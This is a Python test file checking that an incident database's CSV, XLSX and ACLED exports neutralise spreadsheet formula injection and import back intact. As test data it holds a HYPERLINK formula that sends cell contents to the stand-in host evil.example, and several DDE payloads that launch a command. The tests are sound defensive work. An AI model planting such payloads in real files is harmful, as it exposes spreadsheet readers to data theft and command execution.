"""Exports cannot attack their readers: formula-like text is quoted in CSV and text in XLSX, and imports back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from marsad.domain.incident import CANONICAL_COLUMNS, Incident, Source
from marsad.domain.vocabulary import Vocabularies
from marsad.io.canonical import RawRow, parse_incident
from marsad.io.cells import neutralised, restored, runs_as_formula
from marsad.io.formats import format_named
from marsad.storage.incident_store import IncidentWriter
from tests.helpers import attack

STEAL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for source")'
HOSTILE = attack(
    description=STEAL,
    place="+cmd|' /C calc'!A0",
    target_detail="-2+3+cmd|' /C calc'!A0",
    notes="@SUM(1+1)*cmd|' /C calc'!A0",
    sources=[Source(title="=1+1"), Source(url="https://example.org/ok")],
    tags=["-5 killed", "'=already quoted"],
)
PLAIN = attack(id="2019-07-0002", description="- a bullet point, and 'quoted' words", military_killed=0)


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "1", ".", "e", "a", " "]), max_size=8))
def test_restored_undoes_neutralised_for_any_text(text: str) -> None:
    cell = neutralised(text)
    assert restored(str(cell)) == text
    assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) or not runs_as_formula(text)


def test_numbers_and_numeric_text_are_left_alone() -> None:
    assert neutralised(-35.2) == -35.2 and neutralised("-35.2") == "-35.2" and neutralised("+5") == "+5"
    assert neutralised("-1e5") == "-1e5" and neutralised("1,234") == "1,234"
    assert neutralised("-5 killed") == "'-5 killed" and neutralised(STEAL) == "'" + STEAL


def written(fmt: str, incidents: list[Incident], tmp_path: Path) -> Path:
    chosen = format_named(fmt)
    path = tmp_path / f"out{chosen.extensions[0]}"
    with path.open("wb") as handle:
        chosen.writer()(incidents, handle, CANONICAL_COLUMNS)
    return path


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in list(csv.reader(handle))[1:] for cell in row]


def imported(path: Path, fmt: str, vocab: Vocabularies) -> list[Incident]:
    back = []
    for row in format_named(fmt).reader()(path):
        assert isinstance(row, RawRow), row
        incident, problems = parse_incident(row.values, vocab)
        assert incident is not None, problems
        back.append(incident)
    return back


def test_csv_cells_never_start_like_a_formula_and_import_back(tmp_path: Path, vocab: Vocabularies) -> None:
    path = written("csv", [HOSTILE, PLAIN], tmp_path)
    cells = csv_cells(path)
    assert "'" + STEAL in cells and "'+cmd|' /C calc'!A0" in cells and "'=1+1 | https://example.org/ok" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c[:1] == "-" and c[1:2] != "")]
    back = imported(path, "csv", vocab)
    assert back[0].description == STEAL and back[0].place == HOSTILE.place and back[0].notes == HOSTILE.notes
    assert back[0].target_detail == HOSTILE.target_detail and back[0].tags == HOSTILE.tags
    assert [s.title for s in back[0].sources] == ["=1+1", None]
    assert back[1].description == PLAIN.description and back[1].military_killed == 0


def test_xlsx_writes_formula_like_text_as_text(tmp_path: Path, vocab: Vocabularies) -> None:
    path = written("xlsx", [HOSTILE, PLAIN], tmp_path)
    sheet = load_workbook(path)["incidents"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    description = next(c for c in cells if c.value == STEAL)
    assert description.data_type == "s" and description.quotePrefix
    back = imported(path, "xlsx", vocab)
    assert back[0].description == STEAL and back[0].target_detail == HOSTILE.target_detail
    assert back[0].tags == HOSTILE.tags and back[1].description == PLAIN.description


def test_acled_layout_cells_are_quoted_and_read_back(tmp_path: Path, vocab: Vocabularies) -> None:
    path = written("acled", [HOSTILE], tmp_path)
    cells = csv_cells(path)
    assert "'" + STEAL in cells and "'+cmd|' /C calc'!A0" in cells
    assert "36.50237" in cells and "40.74772" in cells  # coordinates stay numbers
    back = imported(path, "acled", vocab)
    assert back[0].description == STEAL and back[0].place == HOSTILE.place


def test_the_public_downloads_are_neutralised(client: TestClient, session: Session, vocab: Vocabularies) -> None:
    IncidentWriter(session, vocab, actor="t", via="test").write([HOSTILE])
    for fmt in ("csv", "acled"):
        text = client.get(f"/api/v1/export.{fmt}").text
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + STEAL in cells and STEAL not in cells
    content = client.get("/api/v1/export.xlsx").content
    sheet = load_workbook(io.BytesIO(content))["incidents"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c.data_type for c in cells if c.value == STEAL] == ["s"]
    assert not [c for c in cells if c.data_type == "f"]
